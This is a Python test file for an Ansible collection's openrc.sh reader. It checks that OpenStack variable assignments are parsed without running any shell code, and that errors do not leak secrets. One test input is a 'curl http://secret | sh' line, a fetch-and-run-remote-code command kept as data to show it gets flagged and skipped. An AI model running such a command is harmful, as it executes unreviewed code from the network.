# Copyright (c) 2026, openmultistack.cloud contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What is read of an openrc.sh, and what of it would have to be run."""

from __future__ import annotations

import typing as t

import pytest

from ansible_collections.openmultistack.cloud.plugins.module_utils._core.openrc import (
    Untold,
    code_warning,
    variables_in,
)
from ansible_collections.openmultistack.cloud.plugins.module_utils._errors import OrderError

# As Horizon offers it for download.
HORIZON = """\
#!/usr/bin/env bash
# To use an OpenStack cloud you need to authenticate against the Identity service.
export OS_AUTH_URL=https://keystone.example.net:5000/v3
export OS_PROJECT_ID=5f8e1c
export OS_PROJECT_NAME="our project"
export OS_USER_DOMAIN_NAME="Default"
if [ -z "$OS_USER_DOMAIN_NAME" ]; then unset OS_USER_DOMAIN_NAME; fi
export OS_PROJECT_DOMAIN_ID="default"
if [ -z "$OS_PROJECT_DOMAIN_ID" ]; then
  unset OS_PROJECT_DOMAIN_ID
fi
# unset v2.0 items in case set
unset OS_TENANT_ID
unset OS_TENANT_NAME
export OS_USERNAME="ada"
# With Keystone you pass the keystone password.
echo "Please enter your OpenStack Password for project $OS_PROJECT_NAME as user $OS_USERNAME: "
read -sr OS_PASSWORD_INPUT
export OS_PASSWORD=$OS_PASSWORD_INPUT
export OS_REGION_NAME="RegionOne"
# Don't leave a blank variable, unset it if it was empty
if [ -z "$OS_REGION_NAME" ]; then unset OS_REGION_NAME; fi
export OS_INTERFACE=public
export OS_IDENTITY_API_VERSION=3
"""


def value(line: str, name: str = "OS_X") -> t.Any:
    return variables_in(f"OS_Y=y\n{line}\n", "rc").values.get(name)


def why(line: str) -> str:
    found = value(line)
    assert isinstance(found, Untold)
    return found.why


def test_the_file_of_the_dashboard_needs_nothing_but_the_password() -> None:
    found = variables_in(HORIZON, "openrc.sh")
    assert found.code == ()
    assert code_warning(found, "openrc.sh") == ""
    untold = {name: each for name, each in found.values.items() if isinstance(each, Untold)}
    assert {name: each.why for name, each in untold.items()} == dict.fromkeys(
        ("OS_PASSWORD_INPUT", "OS_PASSWORD"), "is asked for at a prompt (line 18)"
    )
    assert {name: each for name, each in found.values.items() if name not in untold} == {
        "OS_AUTH_URL": "https://keystone.example.net:5000/v3",
        "OS_PROJECT_ID": "5f8e1c",
        "OS_PROJECT_NAME": "our project",
        "OS_USER_DOMAIN_NAME": "Default",
        "OS_PROJECT_DOMAIN_ID": "default",
        "OS_USERNAME": "ada",
        "OS_REGION_NAME": "RegionOne",
        "OS_INTERFACE": "public",
        "OS_IDENTITY_API_VERSION": "3",
    }


@pytest.mark.parametrize(
    ("line", "is_"),
    [
        ("OS_X=a", "a"),
        ("export OS_X=a", "a"),
        ("export OS_X=a OS_Z=b", "a"),
        ("declare -x OS_X=a; echo", "a"),
        ("OS_X=", ""),
        ("OS_X='a $OS_Y #b'  # c", "a $OS_Y #b"),
        ('OS_X="a \\"b\\" \\$c \\n"', 'a "b" $c \\n'),
        ('OS_X="a\\\nb"', "ab"),
        ("OS_X=a\\ b\\'c", "a b'c"),
        ("OS_X=a\\\nb", "ab"),
        ("OS_X=a'b'\"c\"d", "abcd"),
        ("OS_X=a#b", "a#b"),
        ("OS_X=price$", "price$"),
        ('OS_X="price$"', "price$"),
        ("OS_X=$OS_Y", "y"),
        ("OS_X=${OS_Y}z", "yz"),
        ('OS_X="-$OS_Y-"', "-y-"),
        ("OS_X='two\nlines'", "two\nlines"),
        ("OS_X=a\r\n", "a"),
        ("OS_X=a # the end", "a"),
        ("OS_X=a\nunset OS_X", None),
        ("OS_X=a\nexport OS_X", "a"),
        ("# OS_X=a", None),
        ("echo OS_X=a", None),
        ('OS_X=""\nif [ -z "$OS_X" ]; then unset OS_X; fi', ""),
    ],
)
def test_a_plain_assignment_is_what_a_shell_would_make_of_it(line: str, is_: str | None) -> None:
    assert value(line) == is_


@pytest.mark.parametrize(
    ("line", "because"),
    [
        ("OS_X=$(pass show x)", "is what a command would tell (line 2), which is not run"),
        ("OS_X=`cat \\` x`", "is what a command would tell (line 2), which is not run"),
        ('OS_X="a$(b (c) $(d))e"', "is what a command would tell (line 2), which is not run"),
        ('OS_X="`a`"', "is what a command would tell (line 2), which is not run"),
        ("OS_X=${OS_Y:-a}", "is what a command would tell (line 2), which is not run"),
        ("OS_X=$'a\\'b'", "is what a command would tell (line 2), which is not run"),
        ("OS_X=$1", "is what a command would tell (line 2), which is not run"),
        ("OS_X=$HOME/ca.pem", "is taken from $HOME (line 2), which the file does not set"),
        ("read -s OS_X", "is asked for at a prompt (line 2)"),
        ("read\nOS_X=$REPLY", "is asked for at a prompt (line 2)"),
        ("[ -f a ] && OS_X=a", "hangs on shell code in line 2, which is not run"),
        ("if true\nthen\n OS_X=a\nfi", "hangs on shell code in line 4, which is not run"),
        ('if [ -z "$OS_Y" ]; then OS_X=a; fi', "hangs on shell code in line 2, which is not run"),
        ('if [ -z "$OS_Y" ]; then unset OS_Y; else OS_X=a; fi', "hangs on shell code in line 2, which is not run"),
        ('if [ -z "" ]; then OS_X=a; fi', "hangs on shell code in line 2, which is not run"),
        ("f() { OS_X=a; }", "hangs on shell code in line 2, which is not run"),
        ("case $OS_Y in\n y) OS_X=a;;\nesac", "hangs on shell code in line 3, which is not run"),
        ("for i in 1; do OS_X=a; done", "hangs on shell code in line 2, which is not run"),
        ("OS_X=a make", "hangs on shell code in line 2, which is not run"),
        ("OS_X=b\n[ -f a ] && unset OS_X", "hangs on shell code in line 3, which is not run"),
        ("OS_X=a > file", "hangs on shell code in line 2, which is not run"),
    ],
)
def test_what_only_running_it_would_tell_is_not_known_and_the_line_is_told(line: str, because: str) -> None:
    assert why(line) == because


def test_what_stands_behind_code_is_read_again() -> None:
    assert value("if true; then\n a\nfi\nwhile b; do c; done\ng() (\n d\n)\nOS_X=a") == "a"


def test_code_is_told_of_by_its_lines_and_without_its_text() -> None:
    found = variables_in("export OS_X=a\ncurl http://secret | sh\nalias a=b\necho $(id)\nf > secret", "openrc.sh")
    assert found.values == {"OS_X": "a", "a": Untold(why="hangs on shell code in line 3, which is not run")}
    assert code_warning(found, "openrc.sh") == (
        "openrc.sh, line 2, 3, 4, 5: shell code there was not run and is left out; only plain assignments are read"
    )


def test_many_lines_of_code_are_not_all_told() -> None:
    found = variables_in("OS_X=a\n" + "ls\n" * 12, "rc")
    assert code_warning(found, "rc").startswith("rc, line 2, 3, 4, 5, 6, 7, 8, 9, 10, 11 and more: ")


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("", "rc: it sets no variable of OpenStack"),
        ("clouds:\n  alpha:\n    region_name: one\n", "rc: it sets no variable of OpenStack"),
        ("$Env:OS_AUTH_URL = 'https://x'", "rc: it sets no variable of OpenStack"),
        ("OS_X=a\nOS_Y='secret", "rc, line 2: a quote is opened and never closed"),
        ('OS_X=a\nOS_Y="secret', "rc, line 2: a quote is opened and never closed"),
        ("OS_Y=`secret", "rc, line 1: a quote is opened and never closed"),
        ("OS_Y=secret\\", "rc, line 1: a quote is opened and never closed"),
        ("OS_Y=$(secret", "rc, line 1: a bracket is opened and never closed"),
        ("cat <<EOF\nOS_X=secret\nEOF", "rc, line 1: a here-document (<<) is shell code"),
    ],
)
def test_what_is_no_openrc_is_refused_without_its_text(text: str, says: str) -> None:
    with pytest.raises(OrderError) as caught:
        variables_in(text, "rc")
    assert str(caught.value).startswith(says)
    assert "secret" not in str(caught.value)


def test_a_mark_of_the_byte_order_is_no_part_of_it() -> None:
    assert variables_in("\ufeffOS_X=a", "rc").values == {"OS_X": "a"}
